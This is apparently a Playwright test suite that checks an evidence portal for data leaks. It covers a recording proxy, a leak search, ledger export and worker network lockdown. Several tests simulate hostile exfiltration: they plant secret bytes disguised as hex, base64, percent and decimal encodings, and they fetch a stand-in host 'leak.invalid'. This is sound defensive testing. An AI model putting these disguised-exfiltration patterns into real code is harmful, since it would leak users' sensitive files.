import { readFile } from 'node:fs/promises';
import { request } from 'node:http';
import { chromium, expect, test, type Browser, type BrowserContext, type Page } from '@playwright/test';
import { chromiumLaunch } from '../browser/launch-options.ts';
import { builtFiles } from '../shell/served-build.ts';
import { canaries, type Canary } from './canaries.ts';
import { folderOf } from './evidence.ts';
import { TestHub } from './hub.ts';
import { LeakSearch } from './leak-search.ts';
import { Portal } from './portal.ts';
import { RecordingProxy, type Exchange } from './recording-proxy.ts';
import { sha256 } from './wire.ts';

/** Every path that a browser may ask for to show the portal: files of the build, and the pages made from it. */
const shell = new Set([
  ...builtFiles('client'),
  ...builtFiles('prerendered').map((file) => (file === '/index.html' ? '/' : file.replace(/\.html$/, ''))),
]);

const nowhere = 'http://127.0.0.1:9/';
/** Keeps the browser from talking to its maker of its own accord, as far as its switches go. */
const quiet = [
  '--disable-features=AutofillServerCommunication,NetworkTimeServiceQuerying,OptimizationHints,OptimizationGuideModelDownloading',
  `--gaia-url=${nowhere}`,
  `--component-updater=url-source=${nowhere}`,
];
/**
 * Whom the browser may still contact for itself, whatever page is open. The proxy refuses these like all others, and what
 * pages and workers ask for is watched from inside the browser too: they must not name such a host either.
 */
const browserMaker = /^(?:tunnel|http):\/\/[a-z0-9-]+\.(?:google|googleapis|gvt1)\.com(?::443)?$/;

type Noted = { readonly method: string; readonly route: string; readonly bytes: number; readonly sha256: string };

const noted = ({ method, path, body }: Exchange): Noted => ({
  method,
  route: path,
  bytes: body.length,
  sha256: sha256(body),
});

/** Splits what left into requests of the API, shell files, and what is neither: a question without an address of its own. */
function sorted(exchanges: readonly Exchange[], origin: string) {
  const own = ({ origin: at, query }: Exchange) => at === origin && query === '';
  const isApi = (exchange: Exchange) => own(exchange) && exchange.path.startsWith('/api/v1/');
  const isShell = (exchange: Exchange) =>
    own(exchange) && exchange.method === 'GET' && exchange.body.length === 0 && shell.has(exchange.path);
  return {
    api: exchanges.filter(isApi).map(noted),
    shell: exchanges.filter(isShell),
    neither: exchanges.filter((one) => !isApi(one) && !isShell(one) && !browserMaker.test(one.origin)),
  };
}

/** The ledger as the officer hands it to an auditor, and the sum that the page shows above it. */
async function exportedLedger(portal: Portal) {
  await portal.ledger();
  const total = (await portal.at('ledger-total').innerText())
    .match(/[\d,]+/g)
    ?.map((digits) => digits.replace(/,/g, ''));
  const downloaded = portal.page.waitForEvent('download');
  await portal.page.getByRole('button', { name: 'Export' }).click();
  const text = await readFile(await (await downloaded).path(), 'utf8');
  const { entries } = JSON.parse(text) as { entries: (Noted & { kind: string })[] };
  const requests = entries
    .filter(({ kind }) => kind === 'request')
    .map(({ method, route, bytes, sha256 }) => ({ method, route, bytes, sha256 }));
  return { requests, total: total?.map(Number) };
}

let hub: TestHub;
let proxy: RecordingProxy;
let browser: Browser;
let context: BrowserContext;
let portal: Portal;
/** Every origin that a page, a worker or the service worker asked anything of, seen from inside the browser. */
const asked = new Set<string>();
let evidence: readonly Canary[];
let search: LeakSearch;

test.describe.configure({ mode: 'serial' });

test.beforeAll(async () => {
  hub = await TestHub.start();
  proxy = await RecordingProxy.start(hub.origin);
  evidence = [...(await canaries('folder')), ...(await canaries('drop'))];
  search = new LeakSearch(evidence);
  const { args, ...launch } = chromiumLaunch();
  browser = await chromium.launch({ ...launch, args: [...args, ...quiet, ...proxy.chromiumArgs] });
  context = await browser.newContext({ viewport: { width: 1400, height: 1800 } });
  context.setDefaultTimeout(20_000);
  context.on('request', (request) => asked.add(new URL(request.url()).origin));
  portal = new Portal(await context.newPage(), hub.origin);
});
test.afterAll(async () => {
  await browser.close();
  await proxy.stop();
  await hub.destroy();
});

test('nothing leaves but shell files and what the ledger holds, to the byte', async () => {
  const half = evidence.length / 2;
  const folder = await folderOf(evidence.slice(0, half).map(({ path, file }) => ({ path, bytes: file })));
  await portal.goto('/');
  await portal.installed();
  await portal.pickFolder(folder);
  await portal.jobDone(half);
  await portal.drop(evidence.slice(half).map(({ path, file }) => ({ name: path.replace(/^.*\//, ''), bytes: file })));
  await portal.jobDone(evidence.length);
  expect(Object.values(await portal.tally()).slice(0, 2)).toEqual([evidence.length, evidence.length]);
  for (const { names } of evidence) await expect(portal.page.getByText(names[1] ?? '')).not.toHaveCount(0);
  expect(sorted(proxy.exchanges, hub.origin)).toMatchObject({ api: [], neither: [] });

  const tab = new Portal(await context.newPage(), hub.origin);
  await tab.goto(await hub.firstLink());
  const passphrase = await tab.createVault();
  await expect(tab.at('enrol-done')).toBeVisible();
  await tab.page.close();
  await portal.comeBack();
  await portal.openLookup();
  await portal.unlock(passphrase);
  await portal.at('lookup-ask').click();
  await portal.at('lookup-close').click();
  await expect(portal.at('verdict')).toHaveText(evidence.map(() => 'new'));
  await portal.submit();
  await expect(portal.at('disclosure-sent')).toBeVisible();

  const ledger = await exportedLedger(portal);
  const left = sorted(proxy.exchanges, hub.origin);
  expect(left.neither.map(({ head }) => head)).toEqual([]);
  expect(proxy.noise).toEqual([]);
  expect([...asked]).toEqual([hub.origin]);
  expect(left.shell.length).toBeGreaterThan(10);
  expect(left.api.map(({ route }) => route)).toEqual(
    expect.arrayContaining(['/api/v1/enrolments', '/api/v1/session', '/api/v1/lookups', '/api/v1/submissions']),
  );
  expect(left.api).toEqual(ledger.requests);
  expect(ledger.total).toEqual([left.api.length, left.api.reduce((sum, { bytes }) => sum + bytes, 0)]);
  expect(search.size).toBeGreaterThan(100_000);
  expect(search.leaksIn(proxy.exchanges)).toEqual([]);
});

/** What hostile code in the page would try: one request to the hub for every way to write the bytes down. */
const disguises: readonly { name: string; write: (bytes: Buffer) => Buffer | string }[] = [
  { name: 'raw', write: (bytes) => bytes },
  { name: 'hex', write: (bytes) => `{"sha256":"a${bytes.toString('hex')}"}` },
  { name: 'base64', write: (bytes) => bytes.toString('base64') },
  { name: 'base64', write: (bytes) => `x${bytes.toString('base64url')}` },
  { name: 'base64', write: (bytes) => Buffer.concat([Buffer.from('..'), bytes]).toString('base64') },
  { name: 'base64', write: (bytes) => Buffer.concat([Buffer.from('.'), bytes]).toString('base64') },
  { name: 'percent', write: (bytes) => [...bytes].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('') },
  { name: 'decimal', write: (bytes) => `[${bytes.join(', ')}]` },
];

/** Sends a body to the hub's API past the portal's own code, as a script that got into the page would. */
const plant = (page: Page, bytes: Uint8Array) =>
  page.evaluate(
    async (body) => {
      await fetch('/api/v1/lookups', { method: 'POST', body: Uint8Array.from(body) });
    },
    [...bytes],
  );

test('a planted leak is found, whatever it is dressed up as', async () => {
  const [file] = evidence;
  const secrets = [
    { what: 'pixels', bytes: Buffer.from(file?.bytes[1] ?? []).subarray(0, 40) },
    { what: 'file', bytes: Buffer.from(file?.file ?? []).subarray(4_000, 4_024) },
    { what: 'name', bytes: Buffer.from(file?.names[1] ?? '') },
    { what: 'folder', bytes: Buffer.from(file?.names[0] ?? '') },
  ];
  const { requests } = await exportedLedger(portal);
  for (const { what, bytes } of secrets) {
    for (const { name, write } of disguises) {
      const before = proxy.exchanges.length;
      await plant(portal.page, Buffer.from(write(bytes)));
      // The browser may look for a newer service worker in between, of its own accord.
      const planted = proxy.exchanges.slice(before).filter(({ path }) => path !== '/service-worker.js');
      const found = search.leaksIn(planted).map(({ label, disguise }) => ({ label, disguise }));
      expect(found, `${what} as ${name}`).toContainEqual({ label: file?.label, disguise: name });
      expect(planted).toHaveLength(1);
      for (const exchange of planted) expect(requests).not.toContainEqual(noted(exchange));
    }
  }
  expect((await exportedLedger(portal)).requests).toEqual(requests);
});

test('an address that carries something is neither shell nor ledgered, and another host is seen', async () => {
  const before = proxy.exchanges.length;
  await portal.page.evaluate(() => fetch('/api/v1/lookups?name=canary'));
  const blocked = await portal.page.evaluate(() =>
    Promise.allSettled([fetch('http://leak.invalid/'), fetch('/favicon.ico?name=canary')]),
  );
  expect(blocked.map(({ status }) => status)).toEqual(['rejected', 'rejected']);
  const contact = request({ port: proxy.port, path: 'http://leak.invalid/canary' });
  await new Promise((resolve) => contact.on('response', resolve).end());
  expect(sorted(proxy.exchanges.slice(before), hub.origin).neither).toMatchObject([
    { origin: hub.origin, path: '/api/v1/lookups', query: '?name=canary' },
    { origin: 'http://leak.invalid', path: '/canary' },
  ]);
});

for (const { kind, sample, more } of [
  { kind: 'engine', sample: 'jpg', more: 1 },
  { kind: 'heif', sample: 'heic', more: 2 },
]) {
  test(`the ${kind} worker, which has touched evidence, reaches nothing, not even its own hub`, async () => {
    const page = portal.page;
    const before = proxy.exchanges.length;
    await portal.visit('Case');
    const file = evidence.find(({ path }) => path.endsWith(sample))?.file ?? Buffer.alloc(0);
    await portal.drop([{ name: `once more.${sample}`, bytes: file }]);
    await portal.jobDone(evidence.length + more);
    const engine = page.workers().find((worker) => worker.url().includes(`/workers/${kind}.worker`));
    expect(engine).toBeDefined();
    const outcomes = await engine?.evaluate(async (origin) => {
      const violations: string[] = [];
      addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
      const failed = (opened: EventTarget) =>
        new Promise<string>((resolve) => {
          for (const type of ['error', 'open', 'message'])
            opened.addEventListener(type, () => {
              resolve(type);
            });
        });
      const tries: Record<string, () => Promise<unknown>> = {
        fetch: () => fetch('/api/v1/lookups', { method: 'POST', body: 'canary' }),
        shell: () => fetch('/icon.svg'),
        elsewhere: () => fetch('http://leak.invalid/canary', { mode: 'no-cors' }),
        import: () => import(`${origin}/service-worker.js?canary`),
        request: () =>
          new Promise((resolve, reject) => {
            const asked = new XMLHttpRequest();
            asked.onload = resolve;
            asked.onerror = () => {
              reject(new Error('blocked'));
            };
            asked.open('POST', '/api/v1/lookups');
            asked.send('canary');
          }),
        socket: async () => {
          const end = await failed(new WebSocket(origin.replace('http', 'ws')));
          if (end === 'error') throw new Error('blocked');
        },
        events: async () => {
          const end = await failed(new EventSource('/api/v1/lookups'));
          if (end === 'error') throw new Error('blocked');
        },
      };
      const ended: Record<string, string> = {};
      for (const [name, attempt] of Object.entries(tries)) {
        ended[name] = await attempt().then(
          () => 'reached',
          () => 'blocked',
        );
      }
      return { ended, violations };
    }, hub.origin);
    expect(Object.entries(outcomes?.ended ?? {}).filter(([, end]) => end !== 'blocked')).toEqual([]);
    expect(Object.keys(outcomes?.ended ?? {})).toHaveLength(7);
    expect(outcomes?.violations).toContain('connect-src');
    expect(sorted(proxy.exchanges.slice(before), hub.origin)).toEqual({ api: [], shell: [], neither: [] });
  });
}
